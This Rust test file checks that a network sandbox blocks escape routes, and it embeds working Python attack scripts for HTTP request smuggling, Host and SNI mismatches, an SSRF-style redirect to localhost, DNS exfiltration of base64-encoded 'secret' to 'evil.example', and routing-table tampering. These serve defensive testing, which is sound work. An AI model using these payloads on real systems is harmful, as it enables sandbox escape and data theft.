//! Ways out of a cage whose network follows rules, as a whole system: names that carry data, requests that mean another host than their
//! connection, redirects, and the network's own settings. Each works outside, where the same bytes meet the same server.
#![allow(clippy::unwrap_used, clippy::panic)]

mod support;
#[path = "support/upstream.rs"]
mod upstream;

use std::process::{Command, Output};
use support::{Stage, USER, is_root, stderr, stdout};
use upstream::Upstream;

/// Notes host and target of each request in `seen`. It believes `Content-Length` alone, as careless servers do. A second server, without TLS,
/// is one that is meant for this machine only; `/a-redirect` leads there.
const SERVER: &str = r#"
import http.server, ssl, sys, threading
at = sys.argv[1]
class Inside(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"INSIDE\n")
    def log_message(self, *_): pass
inside = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Inside)
threading.Thread(target=inside.serve_forever, daemon=True).start()
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def answer(self):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        open(at + "/seen", "a").write("%s %s\n" % (self.headers["Host"], self.path))
        leads = self.path == "/a-redirect"
        self.send_response(302 if leads else 200)
        if leads:
            self.send_header("Location", "http://127.0.0.1:%d/" % inside.server_address[1])
        self.send_header("Content-Length", "3")
        self.end_headers()
        self.wfile.write(b"ok\n")
    do_GET = do_POST = answer
    def log_message(self, *_): pass
tls = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(at + "/server.pem", at + "/server.key")
tls.socket = context.wrap_socket(tls.socket, server_side=True)
open(at + "/port", "w").write(str(tls.server_address[1]))
print("ready", flush=True)
tls.serve_forever()
"#;

fn upstream() -> Upstream {
    Upstream::new(SERVER, &["api.example.test", "other.example.test"])
}

const RULES: [&str; 4] =
    ["--allow-net", "GET api.example.test/a*", "--allow-net", "POST api.example.test/a*"];

/// Sends requests that two readers understand in two ways. With a port it talks to the server itself: the control.
const TWO_MEANINGS: &str = r#"
import socket, ssl, sys
context = ssl._create_unverified_context()
def send(greeted, *requests, by_proxy=False):
    try:
        if len(sys.argv) > 1:
            s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 10)
        elif by_proxy:
            s = socket.create_connection(("198.18.0.1", 3128), 10)
            s.sendall(b"CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test:443\r\n\r\n")
            s.recv(4096)
        else:
            s = socket.create_connection(("api.example.test", 443), 10)
        s = context.wrap_socket(s, server_hostname=greeted)
        for request in requests:
            s.sendall(request.replace("\n", "\r\n").encode())
        while s.recv(4096): pass
    except OSError:
        pass
A, O, END = "api.example.test", "other.example.test", "Connection: close\n\n"
send(A, f"GET /a-fine HTTP/1.1\nHost: {A}\n{END}")
send(A, f"GET /a-host HTTP/1.1\nHost: {O}\n{END}")
send(A, f"GET /a-port HTTP/1.1\nHost: {A}:8443\n{END}")
send(A, f"GET https://{O}/a-absolute HTTP/1.1\nHost: {A}\n{END}")
send(A, f"GET https://{O}/a-absolute-too HTTP/1.1\nHost: {O}\n{END}")
send(A, f"GET /a-twice HTTP/1.1\nHost: {A}\nHost: {O}\n{END}")
send(O, f"GET /a-greeting HTTP/1.1\nHost: {O}\n{END}")
send(O, f"GET /a-greeting-alone HTTP/1.1\nHost: {A}\n{END}")
send(O, f"GET /a-by-proxy HTTP/1.1\nHost: {O}\n{END}", by_proxy=True)
hidden = f"GET /hidden HTTP/1.1\nHost: {O}\n{END}"
size = "%x" % len(hidden.replace("\n", "\r\n"))
send(A, f"POST /a-smuggle HTTP/1.1\nHost: {A}\nContent-Length: {len(size) + 2}\nTransfer-Encoding: chunked\n\n{size}\n{hidden}\n0\n\n")
print("done")
"#;

#[test]
fn a_request_with_two_meanings_does_not_reach_another_host() {
    let upstream = upstream();
    let stage = upstream.stage();
    stage.python("two.py", TWO_MEANINGS);
    let output = stage.caged_with(&RULES, "python3 two.py");
    assert_eq!(stdout(&output), "done\n", "{}", stderr(&output));
    assert_eq!(upstream.said("seen"), "api.example.test /a-fine\n", "{}", stderr(&output));
    // The control: the server answers each of them.
    assert_eq!(stdout(&stage.bare(&format!("python3 two.py {}", upstream.port))), "done\n");
    let seen = upstream.said("seen");
    for mark in [
        "other.example.test /a-host",
        "api.example.test:8443 /a-port",
        "https://other.example.test/a-absolute",
        "https://other.example.test/a-absolute-too",
        "/a-twice",
        "/a-greeting",
        "/a-greeting-alone",
        "/a-by-proxy",
        "other.example.test /hidden",
    ] {
        assert!(seen.contains(&format!("{mark}\n")), "the control did not work: {mark} in {seen}");
    }
}

#[test]
fn a_redirect_to_this_machine_leads_nowhere() {
    let upstream = upstream();
    let stage = upstream.stage();
    let output = stage.caged_with(&RULES, "curl -sSL https://api.example.test/a-redirect; echo $?");
    assert_eq!(upstream.said("seen"), "api.example.test /a-redirect\n");
    assert_eq!(stdout(&output), "7\n", "{}", stderr(&output));
    let port = &upstream.port;
    let control = format!(
        "curl -sSkL --resolve api.example.test:{port}:127.0.0.1 https://api.example.test:{port}/a-redirect"
    );
    assert_eq!(stdout(&stage.bare(&control)), "INSIDE\n");
}

#[test]
fn no_variable_and_no_setting_of_the_network_opens_it() {
    let upstream = upstream();
    let stage = upstream.stage();
    let acts = [
        "ip link set lo down",
        "ip route flush table local",
        "ip route add default dev lo",
        "ip rule add prio 1 table main",
    ];
    let script: String = acts.iter().map(|act| format!("{act} 2>/dev/null && echo WORKED {act}\n")).collect();
    let get = "env -i /usr/bin/curl -sk --noproxy '*'";
    let inside = format!(
        "{script}{get} https://api.example.test/a-bare; {get} https://other.example.test/a-bare; echo $?; \
         {get} --resolve other.example.test:443:127.0.0.1 https://other.example.test/a-bare; echo $?"
    );
    let output = stage.caged_with(&RULES, &inside);
    assert_eq!(stdout(&output), "ok\n6\n7\n", "{}", stderr(&output));
    assert_eq!(upstream.said("seen"), "api.example.test /a-bare\n");
    // The controls: in a network of one's own each act works, and the server is there for the other name as well.
    for act in acts {
        let own = format!("ip link set lo up; {act} && echo WORKED");
        let output = Command::new("unshare").args(["-rn", "sh", "-c", &own]).output().unwrap();
        assert_eq!(stdout(&output), "WORKED\n", "{act}: {}", stderr(&output));
    }
    let port = &upstream.port;
    let control =
        format!("{get} --resolve other.example.test:{port}:127.0.0.1 https://other.example.test:{port}/a");
    assert_eq!(stdout(&stage.bare(&control)), "ok\n");
}

/// Notes each name as it was written; every name leads to this machine.
const RESOLVER: &str = r#"
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[2], 53))
print("ready", flush=True)
while True:
    asked, client = s.recvfrom(4096)
    labels, at = [], 12
    while asked[at]:
        labels.append(asked[at + 1:at + 1 + asked[at]].decode())
        at += 1 + asked[at]
    end = at + 5
    open(sys.argv[1], "a").write(".".join(labels) + "\n")
    is_a = asked[at + 1:at + 3] == b"\0\1"
    head = asked[:2] + b"\x81\x80\0\1" + (b"\0\1" if is_a else b"\0\0") + b"\0\0\0\0"
    s.sendto(head + asked[12:end] + (b"\xc0\x0c\0\1\0\1\0\0\0\5\0\4\x7f\0\0\1" if is_a else b""), client)
"#;

/// Asks the resolver that it finds, with data in labels, in the case of letters, and in the kind of the question.
const TELLING_NAMES: &str = r#"
import socket, ssl
server = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")][0]
def ask(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(10)
    try:
        s.sendto(b"ab\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + bytes([0, kind, 0, 1]), (server, 53))
        s.recv(4096)
    except OSError:
        pass
for name in "c2VjcmV0.api.example.test", "c2VjcmV0.evil.example", "api.example.test.c2VjcmV0.example", "aPi.eXaMpLe.TeSt":
    for kind in (1, 16, 28, 255):
        ask(name, kind)
    try:
        ssl._create_unverified_context().wrap_socket(socket.create_connection((name, 443), 10), server_hostname=name)
    except OSError:
        pass
print("done")
"#;

/// A program as the stage's user, on a host whose resolver is the one of this file.
fn with_resolver(stage: &Stage, file: &str, words: &[&str]) -> Output {
    let script = "mount --bind \"$0\" /etc/resolv.conf && user=$1 && shift && \
        exec setpriv --reuid \"$user\" --regid \"$user\" --clear-groups -- \"$@\"";
    let mut command = Command::new("unshare");
    command.args(["-m", "sh", "-c", script, file, &USER.to_string()]).args(words);
    command.env_clear().env("PATH", "/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin").env("HOME", stage.home());
    command.current_dir(stage.project()).output().unwrap()
}

/// A resolver of the host that notes names, in the place of the host's own.
struct Resolver {
    _server: support::Beside,
    resolv: String,
    seen: std::path::PathBuf,
}

impl Resolver {
    /// Tests that run at once differ in `number`.
    fn start(stage: &Stage, number: u8) -> Self {
        assert!(is_root(), "this test needs root; run the tests as root, as CI does");
        let folder = stage.elsewhere();
        let (program, seen) = (folder.join("resolver.py"), folder.join("seen"));
        std::fs::write(&program, RESOLVER).unwrap();
        let [_, .., high, low] = std::process::id().to_be_bytes();
        let address = format!("127.{number}.{high}.{low}");
        let resolv = stage.file(&folder.join("resolv.conf"), &format!("nameserver {address}\n"));
        let server =
            stage.beside_and_ready(Command::new("/usr/bin/python3").arg(&program).arg(&seen).arg(&address));
        Resolver { _server: server, resolv: resolv.to_str().unwrap().to_owned(), seen }
    }

    fn told(&self) -> String {
        std::fs::read_to_string(&self.seen).unwrap_or_default()
    }

    /// Runs a program with this rule.
    fn caged(&self, stage: &Stage, rule: &str, program: &[&str]) -> Output {
        let run = [support::keyward(), "run", "--gate", "yolo", "--allow-net", rule, "--"];
        with_resolver(stage, &self.resolv, &[&run[..], program].concat())
    }
}

#[test]
fn no_name_carries_data_to_the_resolver_of_the_host() {
    let stage = Stage::user();
    stage.python("names.py", TELLING_NAMES);
    let resolver = Resolver::start(&stage, 53);
    let output = resolver.caged(&stage, "api.example.test", &["python3", "names.py"]);
    assert_eq!(stdout(&output), "done\n", "{}", stderr(&output));
    // The allowed name was looked for, in one spelling; nothing else was.
    let told = resolver.told();
    assert!(told.lines().count() > 0 && told.lines().all(|name| name == "api.example.test"), "{told}");
    // It led to this machine, which no rule names.
    assert!(stderr(&output).contains("api.example.test"), "{}", stderr(&output));
    // The control.
    assert_eq!(stdout(&with_resolver(&stage, &resolver.resolv, &["python3", "names.py"])), "done\n");
    let told = resolver.told();
    for name in ["c2VjcmV0.api.example.test", "c2VjcmV0.evil.example", "aPi.eXaMpLe.TeSt"] {
        assert!(told.contains(&format!("{name}\n")), "the control did not work: {name} in {told}");
    }
}

/// A rule with `*.` lets a program choose a part of the name. What SECURITY.md says about it is shown here.
#[test]
fn a_name_below_a_wildcard_is_asked_for_only_when_a_program_connects() {
    let stage = Stage::user();
    let resolver = Resolver::start(&stage, 54);
    let look = ["getent", "ahosts", "c2VjcmV0.api.example.test"];
    let output = resolver.caged(&stage, "*.api.example.test", &look);
    assert!(stdout(&output).contains("198.18."), "{}{}", stdout(&output), stderr(&output));
    assert_eq!(resolver.told(), "", "a name that was only looked up");
    let connect = ["curl", "-sk", "https://c2VjcmV0.api.example.test/"];
    resolver.caged(&stage, "*.api.example.test", &connect);
    assert!(resolver.told().contains("c2vjcmv0.api.example.test\n"), "{}", resolver.told());
    // The control: outside, looking it up is enough.
    with_resolver(&stage, &resolver.resolv, &look);
    assert!(resolver.told().contains("c2VjcmV0.api.example.test\n"), "{}", resolver.told());
}
